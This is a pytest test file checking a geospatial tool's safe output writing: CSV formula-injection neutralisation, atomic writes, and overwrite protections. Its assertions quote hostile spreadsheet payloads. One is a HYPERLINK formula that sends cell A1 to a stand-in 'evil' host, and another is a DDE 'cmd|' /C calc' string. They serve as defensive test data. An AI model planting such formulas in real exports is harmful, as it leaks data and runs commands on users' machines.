"""Writing outputs safely (issue 11): neutralised CSV cells, atomic files, output-folder transactions,
inputs never overwritten, files not ours never replaced without overwrite, bad caches moved aside."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pandas as pd
import pytest

from geo_response import outputs
from geo_response._cache import move_aside
from geo_response.errors import OutputError
from geo_response.outputs import MANIFEST_NAME, OutputFile, OutputFolder, write_csv, write_json, write_text

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


# ------------------------------------------------------------------------------------------------
# CSV formula injection (issue line 2)
# ------------------------------------------------------------------------------------------------
def test_write_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path):
    df = pd.read_csv(HOSTILE / "formulas.csv", dtype=str, keep_default_na=False)
    df["minutes"] = [-1.5, 2.0, -3.0]
    write_csv(df, tmp_path / "out.csv")
    rows = cells(tmp_path / "out.csv")
    assert rows[1][0] == '\'=HYPERLINK("http://evil/?x="&A1,"click")'
    assert rows[1][3:5] == ["'=1+1", "'@SUM(A1)"]
    assert rows[2][0] == "'+441234"  # a phone number stays text, neutralised
    assert rows[2][3] == "'-1+cmd|' /C calc'!A0"
    assert rows[2][4] == "'\ttab"
    assert rows[3][0] == "-0.5"  # text that is a negative number is left alone
    assert [r[5] for r in rows[1:]] == ["-1.5", "2.0", "-3.0"]  # real numbers stay numbers
    assert rows[3][1:3] == ["51.75", "0.48"]


def test_write_csv_neutralises_header_index_and_carriage_return(tmp_path):
    df = pd.DataFrame({"=cmd": ["\rx", None, "a"], "n": [1, -2, 3]}, index=pd.Index(["@i", "j", "k"]))
    write_csv(df, tmp_path / "o.csv", index=True)
    rows = cells(tmp_path / "o.csv")
    assert rows[0] == ["", "'=cmd", "n"]
    assert rows[1] == ["'@i", "'\rx", "1"]
    assert rows[2] == ["j", "", "-2"]


def test_neutralise_frame_handles_every_dtype():
    df = pd.DataFrame(
        {
            "obj": ["=a", 1, None],
            "s": pd.Series(["+1", "x", None], dtype="string"),
            "cat": pd.Categorical(["@x", "y", "@x"]),
            "b": [True, False, True],
            "t": pd.to_datetime(["2021-01-01"] * 3, utc=True),
            "i": pd.array([1, None, -3], dtype="Int64"),
            "f": [-1.0, float("nan"), 2.0],
        }
    )
    out = outputs.neutralise_frame(df)
    assert out["obj"].tolist()[:2] == ["'=a", 1] and out["obj"].iloc[2] is None
    assert out["s"].tolist()[:2] == ["'+1", "x"] and out["cat"].tolist() == ["'@x", "y", "'@x"]
    for col in ("b", "t", "i", "f"):
        pd.testing.assert_series_equal(out[col], df[col])
    assert df["obj"].iloc[0] == "=a"  # the input frame is not changed


def test_atomic_path_keeps_the_suffix_for_gdal(tmp_path):
    import geopandas as gpd
    from shapely.geometry import Point

    gdf = gpd.GeoDataFrame({"name": ["=x"]}, geometry=[Point(0.45, 51.75)], crs=4326)
    with outputs.atomic_path(tmp_path / "iso.gpkg") as tmp:
        assert tmp.suffix == ".gpkg" and tmp.name.startswith(".iso.tmp-")
        gdf.to_file(tmp, layer="isochrones", driver="GPKG")
    assert gpd.read_file(tmp_path / "iso.gpkg")["name"].tolist() == ["=x"]
    assert [p.name for p in tmp_path.iterdir()] == ["iso.gpkg"]


def test_neutralise_cell_rules():
    assert [outputs.neutralise_cell(v) for v in ("-12", "-1e-3", "-.5", "-", "--1", "- 1", "a=b")] == [
        "-12",
        "-1e-3",
        "-.5",
        "'-",
        "'--1",
        "'- 1",
        "a=b",
    ]
    assert outputs.neutralise_cell(-7) == -7 and outputs.neutralise_cell(None) is None


# ------------------------------------------------------------------------------------------------
# Atomic single files
# ------------------------------------------------------------------------------------------------
def test_write_text_and_json_are_atomic_and_leave_no_temp(tmp_path):
    write_text("old", tmp_path / "a.txt")
    write_json({"x": float("nan"), "y": [1, 2]}, tmp_path / "a.json")
    assert json.loads((tmp_path / "a.json").read_text()) == {"x": None, "y": [1, 2]}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.json", "a.txt"]
    mode = (tmp_path / "a.txt").stat().st_mode & 0o777
    assert mode == 0o666 & ~outputs._umask()  # not tempfile's 0600


def test_failed_csv_write_keeps_previous_file(tmp_path):
    target = tmp_path / "t.csv"
    target.write_text("previous\n")

    bad = pd.DataFrame({"a": [1]})
    with pytest.raises(TypeError):
        write_csv(bad, target, not_an_option=True)
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_write_to_a_folder_name_is_a_clear_error(tmp_path):
    (tmp_path / "report.md").mkdir()
    with pytest.raises(OutputError, match="is a folder, not a file"):
        write_text("x", tmp_path / "report.md")


# ------------------------------------------------------------------------------------------------
# Output folder transaction (issue lines 1 and 6)
# ------------------------------------------------------------------------------------------------
def test_folder_appears_whole_with_manifest(tmp_path):
    out_dir = tmp_path / "out"
    with OutputFolder(out_dir) as out:
        write_csv(pd.DataFrame({"a": [1]}), out.path("a.csv"))
        write_text("# r\n", out.folder("ncmg") / "report.md")
        assert not out_dir.exists()  # nothing visible until the end
    manifest = json.loads((out_dir / MANIFEST_NAME).read_text())
    assert sorted(manifest["files"]) == ["a.csv", "ncmg/report.md"]
    assert manifest["files"]["a.csv"]["sha256"] == outputs.sha256_file(out_dir / "a.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_failed_run_leaves_previous_outputs_untouched_and_says_so(tmp_path):
    out_dir = tmp_path / "out"
    with OutputFolder(out_dir) as out:
        write_text("run 1", out.path("summary.json"))
        write_text("run 1", out.path("ledger.csv"))
    before = {p.name: p.read_bytes() for p in out_dir.iterdir()}
    with pytest.raises(RuntimeError) as info, OutputFolder(out_dir) as out:
        write_text("run 2", out.path("ledger.csv"))
        raise RuntimeError("boom")
    assert {p.name: p.read_bytes() for p in out_dir.iterdir()} == before
    assert any("previous outputs there are untouched" in n for n in info.value.__notes__)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_directory_named_like_an_output_mixes_no_runs(tmp_path):
    """Issue line 6: a folder called report.md must not leave fresh CSVs beside an old summary.json."""
    out_dir = tmp_path / "out"
    with OutputFolder(out_dir) as out:
        write_text('{"input": 12}', out.path("summary.json"))
    (out_dir / "report.md").mkdir()
    before = sorted(p.name for p in out_dir.iterdir())
    with pytest.raises(OutputError, match="report.md is a folder"), OutputFolder(out_dir) as out:
        write_csv(pd.DataFrame({"a": [1]}), out.path("ledger.csv"))
        write_text('{"input": 7}', out.path("summary.json"))
        write_text("x", out.path("report.md"))
    assert sorted(p.name for p in out_dir.iterdir()) == before
    assert (out_dir / "summary.json").read_text() == '{"input": 12}'


def test_rerun_replaces_own_files_and_removes_stale_ones(tmp_path):
    out_dir = tmp_path / "out"
    with OutputFolder(out_dir) as out:
        write_text("1", out.path("a.csv"))
        write_text("1", out.path("hotspots.csv"))
    (out_dir / "notes.txt").write_text("mine")  # the user's own file is left alone
    with OutputFolder(out_dir) as out:
        write_text("2", out.path("a.csv"))
    assert sorted(p.name for p in out_dir.iterdir()) == sorted([MANIFEST_NAME, "a.csv", "notes.txt"])
    assert (out_dir / "a.csv").read_text() == "2"


def test_refuses_files_it_did_not_write_unless_overwrite(tmp_path):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    (out_dir / "report.md").write_text("the user's report")
    with pytest.raises(OutputError, match=r"not written by geo-response .* --overwrite"):
        OutputFolder(out_dir, expected=["report.md"]).__enter__()  # before the run starts
    with pytest.raises(OutputError, match="--overwrite"), OutputFolder(out_dir) as out:
        write_text("new", out.path("report.md"))
    assert (out_dir / "report.md").read_text() == "the user's report"
    with OutputFolder(out_dir, overwrite=True) as out:
        write_text("new", out.path("report.md"))
    assert (out_dir / "report.md").read_text() == "new"


def test_edited_output_counts_as_not_ours(tmp_path):
    out_dir = tmp_path / "out"
    with OutputFolder(out_dir) as out:
        write_text("1", out.path("report.md"))
    (out_dir / "report.md").write_text("edited by hand")
    with pytest.raises(OutputError, match="changed since"), OutputFolder(out_dir) as out:
        write_text("2", out.path("report.md"))
    assert (out_dir / "report.md").read_text() == "edited by hand"


def test_out_that_is_or_contains_an_input_is_refused(tmp_path):
    """Issue line 1: compliance --incidents dl/incidents.csv --out dl; travel-times --points p.csv --out p.csv."""
    dl = tmp_path / "dl"
    dl.mkdir()
    src = dl / "incidents.csv"
    src.write_bytes((HOSTILE / "formulas.csv").read_bytes())
    before = src.read_bytes()
    with pytest.raises(OutputError, match="contains the input"):
        OutputFolder(dl, inputs=[src]).__enter__()
    with pytest.raises(OutputError, match="is the input"):
        OutputFolder(dl, inputs=[dl]).__enter__()
    with pytest.raises(OutputError, match="contains the input"):
        OutputFolder(tmp_path, inputs=[str(dl / "*.csv")]).__enter__()
    with pytest.raises(OutputError, match="is the input"):
        OutputFile(src, inputs=[src]).__enter__()
    os.symlink(src, tmp_path / "link.csv")
    with pytest.raises(OutputError, match="is the input"):
        OutputFile(tmp_path / "link.csv", inputs=[src]).__enter__()
    assert src.read_bytes() == before
    assert sorted(p.name for p in dl.iterdir()) == ["incidents.csv"]


def test_unwritable_out_is_a_clear_error_even_as_root(tmp_path, monkeypatch):
    import tempfile

    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkdtemp", denied)
    monkeypatch.setattr(outputs.os, "open", denied)
    with pytest.raises(OutputError, match=r"cannot write in .*Permission denied.*--out folder you can write to"):
        OutputFolder(tmp_path / "out").__enter__()
    with pytest.raises(OutputError, match=r"Permission denied.*--out you can write to"):
        OutputFile(tmp_path / "t.csv").__enter__()


def test_out_dot_in_a_read_only_parent_stages_inside_the_folder(tmp_path, monkeypatch):
    import tempfile

    real = tempfile.mkdtemp
    work = tmp_path / "work"
    work.mkdir()

    def parent_read_only(*args, dir=None, **kwargs):
        if Path(dir) == tmp_path:
            raise PermissionError(13, "Permission denied")
        return real(*args, dir=dir, **kwargs)

    monkeypatch.setattr(tempfile, "mkdtemp", parent_read_only)
    monkeypatch.chdir(work)
    with OutputFolder(".") as out:
        write_text("x", out.path("report.md"))
        assert not (work / "report.md").exists()
    assert sorted(p.name for p in work.iterdir()) == [MANIFEST_NAME, "report.md"]


def test_out_that_is_a_file_or_unwritable_is_a_clear_error(tmp_path):
    f = tmp_path / "file.txt"
    f.write_text("x")
    with pytest.raises(OutputError, match="is a file, not a folder"):
        OutputFolder(f).__enter__()
    with pytest.raises(OutputError, match="is a file, not a folder"):
        OutputFolder(f / "sub").__enter__()
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if os.access(locked, os.W_OK):
            pytest.skip("running as root: permissions are not enforced")
        with pytest.raises(OutputError, match="choose an --out folder you can write to"):
            OutputFolder(locked / "out").__enter__()
        with pytest.raises(OutputError, match="choose an --out you can write to"):
            OutputFile(locked / "t.csv").__enter__()
    finally:
        locked.chmod(0o700)


# ------------------------------------------------------------------------------------------------
# Single-file outputs
# ------------------------------------------------------------------------------------------------
def test_output_file_with_companion_and_gpkg_suffix(tmp_path):
    target = tmp_path / "tt.csv"
    with OutputFile(target, companions=(".json",)) as f:
        assert f.path.suffix == ".csv" and f.path.parent == tmp_path
        write_csv(pd.DataFrame({"id": ["=x"]}), f.path)
        write_json({"n": 1}, f.companion(".json"))
        assert not target.exists()
    assert cells(target) == [["id"], ["'=x"]]
    assert json.loads((tmp_path / "tt.csv.json").read_text()) == {"n": 1}
    assert sorted(outputs.read_manifest(tmp_path)) == ["tt.csv", "tt.csv.json"]
    with OutputFile(target, companions=(".json",)) as f:  # ours: replaced without overwrite
        write_csv(pd.DataFrame({"id": ["y"]}), f.path)
    assert cells(target) == [["id"], ["y"]]


def test_output_file_refuses_a_foreign_file_and_keeps_it_on_failure(tmp_path):
    target = tmp_path / "map.html"
    target.write_text("someone else's page")
    with pytest.raises(OutputError, match="--overwrite"):
        OutputFile(target).__enter__()
    with pytest.raises(ValueError), OutputFile(target, overwrite=True) as f:
        write_text("half", f.path)
        raise ValueError("failed")
    assert target.read_text() == "someone else's page"
    assert [p.name for p in tmp_path.iterdir()] == ["map.html"]


# ------------------------------------------------------------------------------------------------
# Bad cache files are moved aside (issue line 3, the part outside the network module)
# ------------------------------------------------------------------------------------------------
def test_move_aside_renames_and_reports(tmp_path, caplog):
    bad = tmp_path / "net.npz"
    bad.write_bytes(b"planted")
    with caplog.at_level("WARNING"):
        moved = move_aside(bad, "content hash does not match")
    assert not bad.exists() and moved.read_bytes() == b"planted"
    assert moved.name.startswith("net.npz.bad-")
    assert "content hash does not match" in caplog.text and str(moved) in caplog.text
